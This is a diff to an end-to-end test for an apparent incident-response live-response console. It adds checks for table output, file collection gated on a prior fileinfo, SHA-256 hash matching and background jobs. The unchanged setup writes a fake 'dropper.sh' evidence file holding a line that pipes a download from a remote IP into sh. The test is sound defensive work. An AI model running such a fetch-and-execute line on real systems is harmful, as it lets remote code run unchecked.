@@ -1,4 +1,5 @@
 import { type ChildProcess, spawn, spawnSync } from "node:child_process";
+import { createHash } from "node:crypto";
 import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
@@ -103,6 +104,8 @@ beforeAll(async () => {
   spawnSync("mkdir", ["-p", evidence]);
   writeFileSync(join(evidence, "dropper.sh"), "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n");
   writeFileSync(join(evidence, "notes.txt"), "second file\n");
+  writeFileSync(join(evidence, "third.txt"), "taken after its own fileinfo\n");
+  writeFileSync(join(evidence, "background.txt"), "taken in the background\n");
 }, 180_000);
 
 afterAll(async () => {
@@ -204,6 +207,28 @@ describe("live response, end to end", () => {
       .split("\n")
       .map((l) => JSON.parse(l) as { pid: number });
     expect(rows.length).toBeGreaterThan(1);
+
+    // -output table (the registry's columns, aligned) as well as json
+    const tableAt = con.stdout.length;
+    expect(await con.run("dir -output table")).toMatch(/\] completed/);
+    expect(con.stdout.slice(tableAt)).toMatch(/type\s+mode\s+owner\s+size\s+mtime\s+name\n-+/);
+    expect(con.stdout.slice(tableAt)).toContain("third.txt");
+    // getfile without -auto: refused with its reason until a fileinfo of the path, then taken
+    expect(await con.run("getfile third.txt")).toMatch(/ERR_PREREQUISITE/);
+    expect(await con.run("fileinfo third.txt")).toMatch(/\] completed/);
+    const third = /item ([0-9a-f]{64})/.exec(await con.run("getfile third.txt"))?.[1];
+    expect(third).toBe(
+      createHash("sha256")
+        .update(readFileSync(join(evidence, "third.txt")))
+        .digest("hex"),
+    );
+    // getfile in the background, then brought back with fg
+    const takingLater = await con.run("getfile background.txt -auto &");
+    const takeJob = /\[(C-[0-9a-f-]+)\] \w+ in the background/.exec(takingLater)?.[1] as string;
+    expect(takeJob, takingLater).toBeDefined();
+    expect(await con.run(`fg ${takeJob}`)).toMatch(
+      new RegExp(`\\[${takeJob}\\] completed[^\\n]*item [0-9a-f]{64}`),
+    );
 
     const background = await con.run("dir /etc &");
     const jobId = /\[(C-[0-9a-f-]+)\] \w+ in the background/.exec(background)?.[1] as string;
